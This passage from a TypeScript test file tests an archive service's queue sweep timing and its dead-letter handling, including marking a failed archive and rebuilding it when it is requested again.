    expect(recorder.sent.filter((m) => m.archive_id === archive.id)).toHaveLength(1);
    await sweepDue(recorder.env, Date.now() + 10 * 60_000);
    expect(recorder.sent.filter((m) => m.archive_id === archive.id)).toHaveLength(2);
    // Swept once, it is left alone for a while.
    await sweepDue(recorder.env, Date.now() + 11 * 60_000);
    expect(recorder.sent.filter((m) => m.archive_id === archive.id)).toHaveLength(2);
  });

  it("the dead-letter consumer marks the archive failed, and asking again rebuilds it", async () => {
    const t = await archiveTenant();
    const day = addDays(localDate(Date.now(), "UTC"), -2);
    // Created without a live job, so nothing builds it before the dead letter arrives.
    const recorder = recordingEnv();
    const subscriber = await getSubscriber(env.DB, t.subscriber.id);
    const pending = await requestArchive(recorder.env, subscriber!, spanPeriod(day, day, "UTC"), Date.now());
    const batch = createMessageBatch("syndic-archive-dlq", [
      { id: "a1", timestamp: new Date(), attempts: 1, body: { archive_id: pending.id } },
    ]);
    const ctx = createExecutionContext();
    await worker.queue(batch, env, ctx);
    expect((await getQueueResult(batch, ctx)).explicitAcks).toEqual(["a1"]);
    const failed = (await api("GET", `/v1/admin/archives/${pending.id}`)).body as Archive;
    expect(failed.status).toBe("failed");
    expect(failed.error).toContain("gave up");

    const again = await api("POST", "/v1/admin/archives", {
      subscriber_id: t.subscriber.id,
      period_start: day,
      period_end: day,
    });
    expect(again.status).toBe(202);
    expect(again.body).toMatchObject({ id: pending.id, status: "pending", error: null });
    expect((await readyArchive(pending.id)).events).toBe(0);
  });
});
